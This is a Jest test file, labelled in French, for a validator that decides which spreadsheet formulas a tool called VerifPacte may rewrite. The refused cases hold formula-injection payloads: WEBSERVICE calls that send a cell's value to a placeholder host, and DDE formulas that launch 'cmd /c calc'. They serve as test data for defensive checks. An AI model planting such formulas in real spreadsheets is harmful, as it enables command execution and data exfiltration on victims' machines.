import { unsafeFormulaReason } from "../../../src/core/formula";

describe("formules que VerifPacte peut réécrire", () => {
  test.each([
    "=SUM(E5:E7,E9)",
    "=G12+J12",
    "=ROUND(D5*1.1,2)",
    "=IF(SUM(A1:A3)>0,A4-A5,0)",
    "='Tableau financier'!H12+Feuil2!$B$3",
    "=-A1%",
    "=#REF!+1",
    '=IF(A1>0,"a|b","")',
  ])("acceptée : %s", (formula) => {
    expect(unsafeFormulaReason(formula)).toBeNull();
  });

  test.each([
    ['=WEBSERVICE("https://exemple.org/?"&A1)', "elle appelle la fonction WEBSERVICE"],
    ['=FILTERXML(WEBSERVICE("https://exemple.org"),"//a")', "elle appelle la fonction FILTERXML"],
    ['=HYPERLINK("https://exemple.org","Cliquez")', "elle appelle la fonction HYPERLINK"],
    ['=SUM(A1,_xlfn.WEBSERVICE("x"))', "elle appelle la fonction WEBSERVICE"],
    ['=INDIRECT("A1")', "elle appelle la fonction INDIRECT"],
    ['=DDE("cmd","/c calc","x")', "elle appelle la fonction DDE"],
    ["=[1]Feuil1!A1", "elle renvoie vers un autre classeur ([1])"],
    ["='C:\\dossier\\[budget.xlsx]Feuil1'!A1+1", "elle renvoie vers un autre classeur (C:\\dossier\\[budget.xlsx])"],
    ["=MaPlage", "elle utilise le nom « MaPlage », qui peut désigner n'importe quoi"],
    ["=SUM({1,2})", "elle contient un tableau de constantes"],
    ["=A1:INDEX(B:B,3)", "elle construit une référence par une fonction"],
    ["SUM(A1)", "ce n'est pas une formule"],
  ])("refusée : %s", (formula, reason) => {
    expect(unsafeFormulaReason(formula)).toBe(reason);
  });

  test.each(["=cmd|' /C calc'!A0", "=msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''"])(
    "lien DDE refusé : %s",
    (formula) => {
      expect(unsafeFormulaReason(formula)).toBe("elle contient un lien DDE");
    },
  );
});
